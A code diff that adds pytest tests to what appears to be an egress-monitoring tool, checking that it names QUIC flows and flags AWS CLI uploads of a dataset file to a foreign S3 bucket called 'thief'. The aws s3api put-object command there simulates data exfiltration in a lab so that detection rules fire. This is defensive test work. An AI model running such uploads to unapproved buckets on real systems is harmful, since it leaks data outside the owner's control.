@@ -396,3 +396,55 @@ def test_proxy(sluice, policy, dataset, lab, tls, names, run, job):
     assert {f["remote"]["name"] for f in found.values()} == {THIEF}
     assert f"to {THIEF} (by way of {s.at}) outside the VPC" in r.finding("exfil.volume", s)["title"]
     assert "tls1.3" in spoken(r, s)
+
+
+# --- other clients -----------------------------------------------------------------
+
+def client(name):
+    if not shutil.which(name):
+        pytest.skip(f"{name} is not installed")
+    return name
+
+
+def test_quic(sluice, policy, dataset, lab, sink, names, run):
+    """A QUIC client's first packets, which nobody answers: sealed, but by a key that all can make."""
+    client("gtlsclient")
+    s = sink(lab.internet, udp=True)
+    d = names({API: [s.ip]})
+    m = sluice(policy(d, {"name": API}))
+    run(d, f"mapfile -t x < {dataset}/f; gtlsclient -q --timeout=2s --handshake-timeout=2s {API} {s.port} https://{API}:{s.port}/ || true")
+    r = m.stop()
+    ends = [(f["remote"]["name"], f["remote"]["name_source"], f["remote"]["name_belief"], f["encrypted"])
+            for f in r.of("flow", proto="udp") if f["remote"]["port"] == s.port]
+    assert set(ends) == {(API, "quic", "resolved", "quic")}
+    assert r.to(s, "bytes_out") == s.bytes() >= 1200
+    assert r.findings() == {} and not r.findings("egress.plaintext")
+
+
+AWS_CONFIG = """
+[default]
+region = eu-west-1
+s3 =
+    addressing_style = virtual
+"""
+
+
+def test_awscli(sluice, policy, dataset, lab, tls, names, run, tmp):
+    """AWS's own client, which puts the bucket before the endpoint's name."""
+    client("aws")
+    s = tls(lab.internet)
+    d = names({THIEF: [s.ip], MODELS: [s.ip]})
+    with open(f"{tmp}/aws", "w", encoding="utf-8") as f:
+        f.write(AWS_CONFIG)
+    m = sluice(policy(d, {"bucket": "approved-models"}))
+    settings = f"AWS_CONFIG_FILE={tmp}/aws AWS_ACCESS_KEY_ID=ASIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=x AWS_SESSION_TOKEN=x"
+    for bucket in ("approved-models", "thief"):
+        run(d, f"env {settings} aws --endpoint-url https://s3.eu-west-1.amazonaws.com:{s.port} --no-verify-ssl "
+            f"s3api put-object --bucket {bucket} --key x --body {dataset}/f")
+    r = m.stop()
+    assert s.bodies() >= 2 * SIZE
+    assert r.to(s, "bytes_out") == s.bytes()
+    buckets = {e["bucket"]: (e["service"], e["name_belief"]) for e in remotes(r, s)}
+    assert buckets == {"approved-models": ("s3", "resolved"), "thief": ("s3", "resolved")}
+    assert {(f["rule"], f["remote"]["bucket"]) for f in r.findings().values()} == {("s3.foreign-bucket", "thief"),
+                                                                                  ("exfil.volume", "thief")}
